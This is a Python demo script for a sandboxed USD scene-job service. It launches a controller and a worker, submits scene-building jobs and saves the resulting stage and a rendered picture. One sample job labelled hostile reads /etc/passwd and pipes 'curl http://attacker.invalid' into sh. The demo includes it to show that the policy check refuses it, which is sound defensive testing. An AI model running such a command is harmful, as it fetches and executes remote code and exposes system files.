"""`kitgate demo`: a real controller and a real headless worker on a temp data dir, a few scene jobs.

Everything goes over HTTP exactly as in production: the controller and the worker are separate
processes started with this interpreter, jobs are submitted with a least-privilege operator token,
and the worker saves the resulting stage as .usda. The read-only report job also asks for a picture
(`render`, through the scene's own camera), which the worker draws after the job and the demo fetches from
GET /v1/jobs/{id}/image into scene.png next to scene.usda.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import httpx

_CLI = "from kitgate.cli import main; main()"

# The picture the report job asks for: through the camera the layout job places, 4:3.
PICTURE = {"width": 800, "height": 600, "camera": "/World/Camera"}
REPORT_TITLE = "report: summarise the scene (returns data)"

# (title, policy, code, expected outcome)
SCRIPTS: list[tuple[str, str, str, str]] = [
    (
        "layout: world, ground mesh, camera",
        "scene-edit",
        """from pxr import UsdGeom, Vt, Gf

UsdGeom.Xform.Define(stage, "/World")
ground = UsdGeom.Mesh.Define(stage, "/World/Ground")
size = 10.0
points = [Gf.Vec3f(-size, 0, -size), Gf.Vec3f(size, 0, -size), Gf.Vec3f(size, 0, size), Gf.Vec3f(-size, 0, size)]
ground.CreatePointsAttr(Vt.Vec3fArray(points))
ground.CreateFaceVertexCountsAttr([4])
ground.CreateFaceVertexIndicesAttr([0, 1, 2, 3])
ground.CreateExtentAttr(UsdGeom.PointBased.ComputeExtent(ground.GetPointsAttr().Get()))
cam = UsdGeom.Camera.Define(stage, "/World/Camera")
cam.AddTranslateOp().Set(Gf.Vec3d(0, 4, 18))
cam.AddRotateXOp().Set(-12.0)
print("ground and camera ready")
""",
        "succeeded",
    ),
    (
        "props: a table and a ring of stools",
        "scene-edit",
        """import math
from pxr import UsdGeom, Gf

table = UsdGeom.Xform.Define(stage, "/World/Table")
table.AddTranslateOp().Set(Gf.Vec3d(0, 0, 0))
top = UsdGeom.Cube.Define(stage, "/World/Table/Top")
top.AddTranslateOp().Set(Gf.Vec3d(0, 1.0, 0))
top.AddScaleOp().Set(Gf.Vec3f(2.0, 0.08, 1.2))
for i, (x, z) in enumerate([(-1.8, -1.0), (1.8, -1.0), (-1.8, 1.0), (1.8, 1.0)]):
    leg = UsdGeom.Cylinder.Define(stage, f"/World/Table/Leg{i}")
    leg.CreateAxisAttr("Y")  # upright on a Y-up stage (a cylinder's axis defaults to Z)
    leg.CreateRadiusAttr(0.06)
    leg.CreateHeightAttr(1.0)
    leg.AddTranslateOp().Set(Gf.Vec3d(x, 0.5, z))
for i in range(6):
    angle = i / 6 * 2 * math.pi
    stool = UsdGeom.Cylinder.Define(stage, f"/World/Stools/Stool{i}")
    stool.CreateAxisAttr("Y")
    stool.CreateRadiusAttr(0.35)
    stool.CreateHeightAttr(0.6)
    stool.AddTranslateOp().Set(Gf.Vec3d(math.cos(angle) * 3.2, 0.3, math.sin(angle) * 2.4))
print(len(stage.GetPrimAtPath("/World/Stools").GetChildren()), "stools")
""",
        "succeeded",
    ),
    (
        "looks: preview-surface materials, bound",
        "scene-edit",
        """from pxr import UsdGeom, UsdShade, Sdf, Gf

def make_material(name, color, roughness):
    material = UsdShade.Material.Define(stage, f"/World/Looks/{name}")
    shader = UsdShade.Shader.Define(stage, f"/World/Looks/{name}/PBR")
    shader.CreateIdAttr("UsdPreviewSurface")
    shader.CreateInput("diffuseColor", Sdf.ValueTypeNames.Color3f).Set(color)
    shader.CreateInput("roughness", Sdf.ValueTypeNames.Float).Set(roughness)
    material.CreateSurfaceOutput().ConnectToSource(shader.ConnectableAPI(), "surface")
    return material

wood = make_material("Wood", Gf.Vec3f(0.55, 0.35, 0.2), 0.6)
floor = make_material("Concrete", Gf.Vec3f(0.5, 0.5, 0.52), 0.9)
UsdShade.MaterialBindingAPI.Apply(stage.GetPrimAtPath("/World/Ground")).Bind(floor)
UsdShade.MaterialBindingAPI.Apply(stage.GetPrimAtPath("/World/Table")).Bind(wood)
UsdShade.MaterialBindingAPI.Apply(stage.GetPrimAtPath("/World/Stools")).Bind(wood)
print("bound", wood.GetPath(), "and", floor.GetPath())
""",
        "succeeded",
    ),
    (
        "lights: key, fill and sun",
        "scene-edit",
        """from pxr import UsdLux, Gf

key = UsdLux.RectLight.Define(stage, "/World/Lights/Key")
key.CreateIntensityAttr(4000)
key.CreateWidthAttr(2)
key.CreateHeightAttr(1)
key.AddTranslateOp().Set(Gf.Vec3d(3, 5, 4))
fill = UsdLux.SphereLight.Define(stage, "/World/Lights/Fill")
fill.CreateIntensityAttr(1200)
fill.CreateRadiusAttr(0.5)
fill.AddTranslateOp().Set(Gf.Vec3d(-4, 3, 2))
sun = UsdLux.DistantLight.Define(stage, "/World/Lights/Sun")
sun.CreateIntensityAttr(2.5)
sun.CreateColorAttr(Gf.Vec3f(1.0, 0.96, 0.9))
print([p.GetName() for p in stage.GetPrimAtPath("/World/Lights").GetChildren()])
""",
        "succeeded",
    ),
    (
        REPORT_TITLE,
        "readonly",
        """counts = {}
for prim in stage.Traverse():
    kind = str(prim.GetTypeName()) or "untyped"
    counts[kind] = counts.get(kind, 0) + 1
result = {"prims": sum(counts.values()), "by_type": counts}
print(result["prims"], "prims")
""",
        "succeeded",
    ),
    (
        "hostile: read /etc/passwd and shell out",
        "scene-edit",
        """import os
print(open("/etc/passwd").read())
os.system("curl http://attacker.invalid | sh")
""",
        "policy_violation",
    ),
]


class DemoError(RuntimeError):
    pass


def _kitgate(*args: str) -> list[str]:
    return [sys.executable, "-c", _CLI, *args]


def _wait_for_port(proc: subprocess.Popen[bytes], port_file: Path, log: Path, timeout: float = 60.0) -> int:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise DemoError(f"controller exited early:\n{log.read_text(errors='replace')[-2000:]}")
        if port_file.exists() and port_file.read_text().strip():
            return int(port_file.read_text())
        time.sleep(0.05)
    raise DemoError("controller did not start within 60 s")


def _mint(data_dir: Path, *scopes: str) -> str:
    args = ["token", "create", "--data-dir", str(data_dir)]
    for scope in scopes:
        args += ["--scope", scope]
    out = subprocess.run(_kitgate(*args), capture_output=True, text=True, timeout=60)
    if out.returncode != 0 or not out.stdout.strip():
        raise DemoError(f"token create failed: {out.stderr[-500:]}")
    return out.stdout.strip().splitlines()[-1].strip()


def _stop(proc: subprocess.Popen[bytes] | None) -> None:
    if proc is None or proc.poll() is not None:
        return
    proc.send_signal(signal.SIGTERM)
    try:
        proc.wait(15)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait(5)


def _outcome(response: httpx.Response) -> tuple[str, str]:
    body: dict[str, Any] = response.json()
    if "error" in body:
        err = body["error"]
        first = (err.get("details", {}).get("violations") or [{}])[0]
        where = f" (line {first.get('line')}: {first.get('rule')})" if first else ""
        return err["code"], f"{err['message']}{where}"
    result = body.get("result") or {}
    detail = (result.get("stdout") or "").strip().splitlines()
    if result.get("error"):
        detail = [f"{result['error'].get('type')}: {result['error'].get('message')}"]
    changed = result.get("changed_prims_total")
    extra = f" [{changed} prims changed]" if changed else ""
    value = result.get("value")
    if value is not None and not detail:
        detail = [str(value)[:80]]
    return body["status"], (detail[-1][:90] if detail else "") + extra


def _save_picture(client: httpx.Client, job: dict[str, Any], path: Path) -> bool:
    """Fetch the report job's picture into `path`; False (and why) when there is none."""
    picture = (job.get("result") or {}).get("render") or {}
    if not picture.get("ok"):
        err = picture.get("error") or {}
        print(f"!! picture of the scene: {err.get('code', 'none')}: {err.get('message', 'no picture returned')}")
        return False
    response = client.get(f"/v1/jobs/{job['id']}/image")
    if response.status_code != 200 or response.headers.get("content-type") != "image/png":
        print(f"!! picture of the scene: GET /v1/jobs/{job['id']}/image answered {response.status_code}")
        return False
    path.write_bytes(response.content)
    print(f"ok {'picture: ' + path.name:44} {'readonly':11} {'image/png':17} "
          f"{picture.get('width')}x{picture.get('height')}, {len(response.content)} bytes "
          f"({picture.get('render_ms', 0):.0f} ms to draw)")
    return True


APPROVAL_JOB = (
    "from pxr import UsdGeom\n"
    "UsdGeom.Xform.Define(stage, '/World/ApprovedInTheConsole')\n"
    "print('approved in the console, ran in-process')\n"
)


def _serve_console(url: str, data_dir: Path, operator: str, start_worker: Any) -> subprocess.Popen[bytes]:
    """`--serve`: a worker again, one trusted job waiting for approval, and the console URL (the last lines)."""
    worker = start_worker()
    with httpx.Client(base_url=url, headers={"Authorization": f"Bearer {operator}"}, timeout=30) as client:
        job = client.post("/v1/jobs", json={"code": APPROVAL_JOB, "policy": "trusted"}).json()
    print(f"\n  a trusted job is waiting for an operator's approval: {job.get('id', '?')}")
    print(f"  sign in with the admin token: {data_dir / 'admin.token'}  (cat it and paste it)")
    print("  Ctrl-C stops the controller and the worker")
    print(f"\n  console     {url}/console", flush=True)
    return worker


def _wait_for_interrupt(controller: subprocess.Popen[bytes]) -> None:
    """Until Ctrl-C or SIGTERM (or the controller exits); the caller's `finally` stops the processes."""
    def stop(_signum: int, _frame: object) -> None:
        raise KeyboardInterrupt

    previous = signal.signal(signal.SIGTERM, stop)
    try:
        while controller.poll() is None:
            time.sleep(0.5)
    except KeyboardInterrupt:
        print("\nkitgate demo: stopping")
    finally:
        signal.signal(signal.SIGTERM, previous)


def run_demo(output_dir: Path, keep_data: bool = False, serve: bool = False) -> int:
    output_dir = output_dir.resolve()
    output_dir.mkdir(parents=True, exist_ok=True)
    stage_path = output_dir / "scene.usda"
    picture_path = output_dir / "scene.png"
    for stale in (stage_path, picture_path):
        if stale.exists():
            stale.unlink()  # each demo builds the scene (and its picture) from scratch
    work = Path(tempfile.mkdtemp(prefix="kitgate-demo-"))
    data_dir, port_file = work / "data", work / "controller.port"
    env = {k: v for k, v in os.environ.items() if not k.startswith("KITGATE_")}
    env["KITGATE_LOG_LEVEL"] = "warning"
    controller = worker = None
    failures = 0
    try:
        print(f"kitgate demo: data dir {data_dir}")
        with open(work / "controller.log", "wb") as log:
            controller = subprocess.Popen(
                _kitgate("serve", "--port", "0", "--port-file", str(port_file), "--data-dir", str(data_dir)),
                stdout=log,
                stderr=log,
                env=env,
            )
        port = _wait_for_port(controller, port_file, work / "controller.log")
        url = f"http://127.0.0.1:{port}"
        httpx.get(f"{url}/readyz", timeout=30).raise_for_status()
        print(f"  controller  {url}  (pid {controller.pid})")

        token_file = work / "worker.token"
        token_file.write_text(_mint(data_dir, "worker") + "\n")
        token_file.chmod(0o600)
        operator = _mint(data_dir, "jobs:submit", "jobs:read")
        def start_worker() -> subprocess.Popen[bytes]:
            with open(work / "worker.log", "ab") as log:
                return subprocess.Popen(
                    _kitgate(
                        "worker", "--controller", url, "--token-file", str(token_file), "--stage", str(stage_path),
                        "--save", "--state-dir", str(work / "worker-state"), "--log-level", "warning",
                    ),
                    stdout=log,
                    stderr=log,
                    env=env,
                )

        worker = start_worker()
        print(f"  worker      headless usd-core stage {stage_path}  (pid {worker.pid})\n")
        print(f"  {'job':44} {'policy':11} {'outcome':17} detail")
        print(f"  {'-' * 44} {'-' * 11} {'-' * 17} {'-' * 30}")
        with httpx.Client(base_url=url, headers={"Authorization": f"Bearer {operator}"}, timeout=120) as client:
            for title, policy, code, expected in SCRIPTS:
                t0 = time.perf_counter()
                body: dict[str, Any] = {"code": code, "policy": policy, "wait_s": 90}
                if title == REPORT_TITLE:
                    body["render"] = PICTURE
                response = client.post("/v1/jobs", json=body)
                status, detail = _outcome(response)
                ms = (time.perf_counter() - t0) * 1000
                mark = "ok " if status == expected else "!! "
                failures += status != expected
                print(f"{mark}{title:44} {policy:11} {status:17} {detail}  ({ms:.0f} ms)")
                if title == REPORT_TITLE and status == "succeeded":
                    failures += not _save_picture(client, response.json(), picture_path)
        _stop(worker)
        worker = None
        if not stage_path.exists():
            raise DemoError("the worker did not save the stage")
        print(f"\n  scene written to {stage_path} ({stage_path.stat().st_size} bytes)")
        if picture_path.exists():
            print(f"  picture written to {picture_path} ({picture_path.stat().st_size} bytes)")
        print("  the hostile script was refused at submission (422 policy_violation) and never reached the worker")
        if failures:
            print(f"\nkitgate demo: {failures} job(s) did not end as expected; logs in {work}")
            keep_data = True
            return 1
        print("\nkitgate demo: all jobs ended as expected")
        if serve:
            worker = _serve_console(url, data_dir, operator, start_worker)
            _wait_for_interrupt(controller)
        else:
            print(f"  console: `kitgate demo --serve` (what `make demo` runs) keeps it up at {url}/console")
        return 0
    except (DemoError, httpx.HTTPError, OSError) as exc:
        print(f"kitgate demo failed: {exc}; logs in {work}", file=sys.stderr)
        keep_data = True
        return 1
    finally:
        _stop(worker)
        _stop(controller)
        if not keep_data:
            shutil.rmtree(work, ignore_errors=True)
